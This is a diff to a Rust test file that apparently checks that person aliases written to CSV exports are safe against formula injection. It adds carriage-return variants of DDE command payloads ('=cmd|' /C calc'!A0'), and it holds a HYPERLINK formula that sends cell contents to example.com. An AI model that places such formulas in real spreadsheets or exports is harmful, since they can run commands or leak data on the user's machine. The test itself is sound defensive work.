@@ -20,6 +20,7 @@ fn payloads() -> Vec<String> {
             payloads.push(format!("{before}{start}cmd|' /C calc'!A0"));
         }
     }
+    payloads.extend(["\rSUM(A1)".to_owned(), "first line\r=cmd|' /C calc'!A0".to_owned()]);
     payloads.extend(["\tSUM(A1)".to_owned(), "=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")".to_owned()]);
     let list = sample::bytes("public/hostile/csv-injection/payloadbox.txt");
     payloads.extend(String::from_utf8_lossy(&list).lines().filter(|line| !line.trim().is_empty()).map(str::to_owned));
@@ -39,7 +40,7 @@ fn poisoned(payloads: &[String]) -> Sample {
     for (number, payload) in payloads.iter().enumerate() {
         let name = format!("人员{number}");
         let id = people.iter().find(|(other, _)| *other == name).expect("a person").1;
-        let alias = payload.replace(['、', ';', '；', '\n', '\t'], " ").trim().to_owned();
+        let alias = payload.replace(['、', ';', '；', '\n', '\r', '\t'], " ").trim().to_owned();
         let set = PersonPatch { aliases: Some(vec![alias]), ..PersonPatch::default() };
         sample.map.apply(&[Change::EditPerson { id, set }], &Viewer::Operator).expect("a valid change");
         let quoted = payload.replace('"', "\"\"");
